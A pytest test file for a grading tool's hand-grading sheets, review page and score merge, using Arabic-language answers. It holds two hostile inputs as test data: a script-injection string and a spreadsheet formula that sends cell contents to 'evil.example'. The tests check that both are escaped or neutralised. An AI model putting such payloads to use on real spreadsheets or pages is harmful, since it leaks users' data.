"""Hand-grading sheets and merge, on a grading run built by hand (no notebook is run here).

The run: three students, two auto-graded questions (q1 3 points, q2 2 points) and
one question graded by hand (q9, 5 points). Every expected number below is
counted from the rows written in ``run``.
"""

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from framing.errors import FramingError
from framing.grading.files import SCORE_MARK, HAND_MARK
from framing.grading.merge import merge, read_sheet
from framing.grading.sheets import read_key, render_markdown, student_codes, write_sheets

RUN = "abc123def456"
Q9 = {"name": "q9", "points": 5.0, "prompt": "**Question 9.** Why does the outlet say **غزو**?",
      "model": "Because غزو (ghazw, invasion) names the act as illegal."}
AUTO = {"alice": (3.0, 2.0, "ok"), "bob": (1.0, 0.0, "ok"), "سارة": (0.0, 0.0, "not attempted")}
ANSWERS = {
    "alice": {"q9": {"text": "The word **غزو** frames it as an invasion.", "blank": False, "found": True}},
    "bob": {"q9": {"text": "It is a neutral word. <script>alert(1)</script>", "blank": False, "found": True}},
    "سارة": {"q9": {"text": "", "blank": True, "found": True}},
}


@pytest.fixture
def run(tmp_path):
    grades = tmp_path / "grades" / "01_corpus.csv"
    grades.parent.mkdir()
    with grades.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(["student", "file", "q1", "q2", "total", "possible", "status", "message"])
        for s, (q1, q2, status) in AUTO.items():
            w.writerow([s, f"subs/{s}.ipynb", q1, q2, q1 + q2, 5.0, status, ""])
    sheets = grades.parent / "01_corpus-sheets"
    write_sheets(sheets, assignment="01_corpus", run=RUN, questions=[Q9], answers=ANSWERS,
                 why={s: "status: ok" for s in AUTO}, seed=11)
    feedback = grades.parent / "01_corpus-feedback"
    feedback.mkdir()
    for s, (q1, q2, status) in AUTO.items():
        mark = HAND_MARK.format("q9")
        (feedback / f"{s}.md").write_text(
            f"# Feedback: 01_corpus, {s}\n\n{SCORE_MARK}\nScore: {q1 + q2:g} / 5\n{SCORE_MARK}\n\n## q1: {q1:g} / 3\n"
            f"\n{mark}\n## q9 (graded by hand): not graded yet\n{mark}\n", encoding="utf-8")
    manifest = {"assignment": "01_corpus", "run": RUN, "manual": {"q9": 5.0},
                "sheets": {"folder": str(sheets), "seed": 11, "names": False}, "feedback": str(feedback)}
    grades.with_suffix(".manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return grades


def sheet_rows(run):
    with (run.parent / "01_corpus-sheets" / "q9.csv").open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def code_of(run, student):
    return {s: c for (q, c), s in read_key(run.parent / "01_corpus-sheets" / "key.csv").items()}[student]


def fill(run, scores: dict, *, path=None, sep=",", decimal=".", drop=(), extra=()):
    """Fill the q9 sheet as a grader would: ``scores`` is {student: (score, comment)}."""
    rows = sheet_rows(run)
    by_code = {code_of(run, s): v for s, v in scores.items()}
    out = []
    for r in rows:
        if r["code"] in drop:
            continue
        if r["code"] in by_code:
            score, comment = by_code[r["code"]]
            r["score"], r["comment"] = str(score).replace(".", decimal), comment
        out.append(r)
    out += list(extra)
    path = path or run.parent / "q9-filled.csv"
    buffer = io.StringIO()
    w = csv.DictWriter(buffer, fieldnames=list(rows[0]), delimiter=sep, lineterminator="\r\n")
    w.writeheader()
    w.writerows(out)
    path.write_bytes(("\ufeff" + buffer.getvalue()).encode("utf-8"))
    return path


GOOD = {"alice": (4.5, "Good: غزو is the outlet's own word."), "bob": (2, "Says neutral; why?")}


def test_the_sheet_has_every_student_once_blank_answers_prefilled_and_no_names(run):
    rows = sheet_rows(run)
    assert sorted(r["code"] for r in rows) == sorted(code_of(run, s) for s in AUTO)
    assert "student" not in rows[0]  # codes only, unless names=True
    by = {r["code"]: r for r in rows}
    assert by[code_of(run, "سارة")]["score"] == "0" and by[code_of(run, "سارة")]["answered"] == "no"
    assert by[code_of(run, "alice")]["score"] == "" and "غزو" in by[code_of(run, "alice")]["answer"]
    assert {r["run"] for r in rows} == {RUN} and {r["points"] for r in rows} == {"5"}
    assert (run.parent / "01_corpus-sheets" / "q9.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_the_page_escapes_answers_isolates_arabic_and_hides_names(run):
    page = (run.parent / "01_corpus-sheets" / "q9.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
    assert '<span class="ar">غزو</span>' in page
    assert "alice" not in page and "bob" not in page and "سارة" not in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert page.count('<input type="number" class="score"') == 3
    for student in AUTO:
        assert f'aria-label="score for {code_of(run, student)}"' in page


def test_an_answer_that_looks_like_a_formula_is_text_in_the_csv(tmp_path):
    answers = {"eve": {"q9": {"text": '=HYPERLINK("http://evil.example/?"&A1,"click")', "blank": False,
                              "found": True}}}
    write_sheets(tmp_path, assignment="01_corpus", run=RUN, questions=[Q9], answers=answers, why={}, seed=1)
    with (tmp_path / "q9.csv").open(encoding="utf-8-sig", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["answer"] == "'" + answers["eve"]["q9"]["text"]  # Excel shows it as typed, never runs it


def test_render_markdown_keeps_an_arabic_answer_right_to_left():
    html = render_markdown("الحكومة **أعلنت** الحرب.")
    assert html.startswith('<p dir="auto">') and '<span class="ar">الحكومة</span>' in html


def test_the_order_is_shuffled_per_question_and_the_same_for_a_seed():
    students = [f"s{i:02}" for i in range(20)]
    a, b = student_codes(students, "q9", 1), student_codes(students, "q10", 1)
    assert list(a) != sorted(students) and list(a) != list(b)
    assert a == student_codes(list(reversed(students)), "q9", 1)
    assert student_codes(students, "q9", 2) != a


def test_merge_adds_hand_points_to_auto_points_and_keeps_comments(run):
    final = merge(run, [fill(run, GOOD)])
    got = final.set_index("student")
    # alice 3 + 2 auto, 4.5 by hand; bob 1 + 0, 2; سارة blank: the sheet's 0
    assert got.loc["alice", ["auto", "hand", "total", "possible"]].tolist() == [5.0, 4.5, 9.5, 10.0]
    assert got.loc["bob", ["auto", "hand", "total"]].tolist() == [1.0, 2.0, 3.0]
    assert got.loc["سارة", ["auto", "hand", "total"]].tolist() == [0.0, 0.0, 0.0]
    assert got.loc["alice", "q9_comment"] == "Good: غزو is the outlet's own word."
    assert got.loc["سارة", "q9_comment"] == "Not answered."
    written = (run.parent / "01_corpus-final.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(run.parent / "01_corpus-final.csv", encoding="utf-8-sig").set_index("student")
    assert back.loc["alice", "total"] == 9.5 and back.loc["سارة", "q9"] == 0


def test_merge_writes_the_hand_scores_into_each_feedback_file(run):
    merge(run, [fill(run, GOOD)])
    text = (run.parent / "01_corpus-feedback" / "alice.md").read_text(encoding="utf-8")
    assert "Score: 9.5 / 10 (auto-graded 5, graded by hand 4.5; status: ok)" in text
    assert "## q9 (graded by hand): 4.5 / 5\n\n> Good: غزو is the outlet's own word." in text
    assert "not graded yet" not in text
    merge(run, [fill(run, {**GOOD, "alice": (4, "")})])  # merging again replaces, never appends
    text = (run.parent / "01_corpus-feedback" / "alice.md").read_text(encoding="utf-8")
    assert text.count("## q9 (graded by hand)") == 1 and "4 / 5" in text and "Good:" not in text


def test_a_spreadsheet_with_semicolons_and_decimal_commas_reads_the_same(run):
    path = fill(run, GOOD, sep=";", decimal=",")
    assert {r["score"] for r in read_sheet(path)} == {4.5, 2.0, 0.0}
    assert merge(run, [path]).set_index("student").loc["alice", "total"] == 9.5


def test_the_pages_own_export_is_read(run):
    # the columns sheet.js writes: run,question,code,points,score,comment
    lines = ["run,question,code,points,score,comment"]
    for s, (score, comment) in {**GOOD, "سارة": (0, "")}.items():
        lines.append(f'{RUN},q9,{code_of(run, s)},5,{score},"{comment}"')
    path = run.parent / "01_corpus-q9-scores.csv"
    path.write_bytes(("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8"))
    assert merge(run, [path]).set_index("student").loc["bob", "total"] == 3.0


def nothing_written(run):
    return (not (run.parent / "01_corpus-final.csv").exists()
            and "not graded yet" in (run.parent / "01_corpus-feedback" / "alice.md").read_text(encoding="utf-8"))


def test_a_score_above_the_points_is_refused_naming_the_file_and_line(run):
    path = fill(run, {**GOOD, "bob": (6, "")})
    line = 2 + [r["code"] for r in sheet_rows(run)].index(code_of(run, "bob"))
    with pytest.raises(FramingError, match=rf"q9-filled.csv, line {line}: score 6 for {code_of(run, 'bob')} "
                                           r"is outside 0-5, the points of q9"):
        merge(run, [path])
    assert nothing_written(run)


def test_an_unknown_code_a_duplicate_row_and_another_runs_sheet_are_refused(run):
    stranger = {"run": RUN, "question": "q9", "code": "ZZZZ", "points": "5", "answered": "yes", "score": "1",
                "comment": "", "answer": ""}
    with pytest.raises(FramingError, match="no student has code 'ZZZZ' for q9 in this run"):
        merge(run, [fill(run, GOOD, extra=[stranger])])
    twice = {**stranger, "code": code_of(run, "alice")}
    with pytest.raises(FramingError, match=f"code {code_of(run, 'alice')} of q9 is also on line"):
        merge(run, [fill(run, GOOD, extra=[twice])])
    other = fill(run, GOOD)
    other.write_text(other.read_text(encoding="utf-8-sig").replace(RUN, "000000000000"), encoding="utf-8")
    with pytest.raises(FramingError, match=rf"made for grading run 000000000000, not for this run \({RUN}\)"):
        merge(run, [other])
    assert nothing_written(run)


def test_a_missing_score_or_row_stops_unless_partial(run):
    with pytest.raises(FramingError, match=f"no score for {code_of(run, 'bob')}"):
        merge(run, [fill(run, {"alice": GOOD["alice"]})])
    with pytest.raises(FramingError, match=f"no row for code\\(s\\) {code_of(run, 'bob')} of q9"):
        merge(run, [fill(run, {"alice": GOOD["alice"]}, drop=[code_of(run, "bob")])])
    assert nothing_written(run)
    final = merge(run, [fill(run, {"alice": GOOD["alice"]})], partial=True).set_index("student")
    assert final.loc["bob", "total"] == 1.0 and pd.isna(final.loc["bob", "q9"])
    assert "not graded yet" in (run.parent / "01_corpus-feedback" / "bob.md").read_text(encoding="utf-8")


def test_a_sheet_saved_in_a_legacy_encoding_is_refused_with_what_to_do(run):
    path = run.parent / "q9-ansi.csv"
    path.write_bytes(f"run,question,code,score,comment\n{RUN},q9,{code_of(run, 'alice')},4,".encode()
                     + "جيد".encode("cp1256") + b"\n")
    with pytest.raises(FramingError, match=r"q9-ansi.csv, line 2: not UTF-8 text.*CSV UTF-8"):
        merge(run, [path])


def test_a_decimal_comma_in_a_comma_separated_sheet_is_refused_not_split(run):
    path = run.parent / "typed.csv"
    path.write_text(f"run,question,code,score,comment\n{RUN},q9,{code_of(run, 'alice')},4,5,ok\n", encoding="utf-8")
    with pytest.raises(FramingError, match=r"typed.csv, line 2: 6 cells for 5 columns .*decimal comma"):
        merge(run, [path])
    assert nothing_written(run)


def test_a_key_saved_in_a_legacy_encoding_says_what_to_do(run):
    key = run.parent / "01_corpus-sheets" / "key.csv"
    key.write_bytes(key.read_bytes().decode("utf-8-sig").encode("cp1256"))
    with pytest.raises(FramingError, match=r"key.csv, line \d+: not UTF-8 text"):
        merge(run, [fill(run, GOOD)])


def test_codes_never_look_like_numbers_to_a_spreadsheet():
    for seed in range(300):
        for code in student_codes([f"s{i}" for i in range(60)], "q9", seed).values():
            with pytest.raises(ValueError):
                float(code)  # 44E9 would be read as 4.4E+10


def test_students_without_a_notebook_are_listed_with_no_score(run, tmp_path):
    subs = tmp_path / "submissions.csv"
    subs.write_text("student,lms,lms_id,name,late,resubmission,source,submitted,note\n"
                    "alice,canvas,1,Alice,False,0,a.ipynb,,\nbob,canvas,2,Bob,False,0,b.ipynb,,\n"
                    "سارة,canvas,3,سارة,False,0,s.ipynb,,\nzoe,canvas,4,Zoe,False,0,,,missing\n", encoding="utf-8-sig")
    final = merge(run, [fill(run, GOOD)], submissions=subs).set_index("student")
    assert final.loc["zoe", "status"] == "no submission" and pd.isna(final.loc["zoe", "total"])
    assert final.loc["zoe", "possible"] == 10.0 and final.loc["alice", "total"] == 9.5
    assert not (run.parent / "01_corpus-feedback" / "zoe.md").exists()


def test_a_score_that_is_not_a_number_names_the_line(run):
    path = fill(run, {**GOOD, "alice": ("four", "")})
    with pytest.raises(FramingError, match=r"line \d+: the score 'four' is not a number"):
        merge(run, [path])


def test_a_late_policy_takes_its_percent_off_the_late_students_total(run, tmp_path):
    subs = tmp_path / "submissions.csv"
    subs.write_text("student,lms,lms_id,name,late,resubmission,source,submitted,note\n"
                    "alice,canvas,1,Alice,False,0,a.ipynb,,\nbob,canvas,2,Bob,True,0,b.ipynb,,\n"
                    "سارة,canvas,3,سارة,True,0,s.ipynb,,\n", encoding="utf-8-sig")
    policy = tmp_path / "late.yaml"
    policy.write_text("penalty: 10\nextensions: [سارة]\n", encoding="utf-8")
    final = merge(run, [fill(run, GOOD)], submissions=subs, policy=policy).set_index("student")
    # bob: (1 + 2) - 10% = 2.7; سارة late with an extension: no penalty; alice on time
    assert final.loc["bob", ["late", "penalty", "total"]].tolist() == [True, 0.3, 2.7]
    assert final.loc["سارة", ["late", "penalty"]].tolist() == [True, 0.0]
    assert final.loc["alice", ["late", "penalty", "total"]].tolist() == [False, 0.0, 9.5]
    assert "late: -10%" in final.loc["bob", "message"]
    with pytest.raises(FramingError, match="a late policy needs the submissions table"):
        merge(run, [fill(run, GOOD)], policy=policy)


def test_a_run_without_hand_graded_questions_says_the_csv_is_final(run):
    manifest = json.loads(run.with_suffix(".manifest.json").read_text(encoding="utf-8"))
    run.with_suffix(".manifest.json").write_text(json.dumps({**manifest, "manual": {}}), encoding="utf-8")
    with pytest.raises(FramingError, match="has no question graded by hand"):
        merge(run)


def test_merge_defaults_to_the_runs_sheets_folder(run):
    fill(run, GOOD, path=run.parent / "01_corpus-sheets" / "q9.csv")
    assert merge(run).set_index("student").loc["alice", "total"] == 9.5
    assert Path(run.parent / "01_corpus-final.csv").is_file()
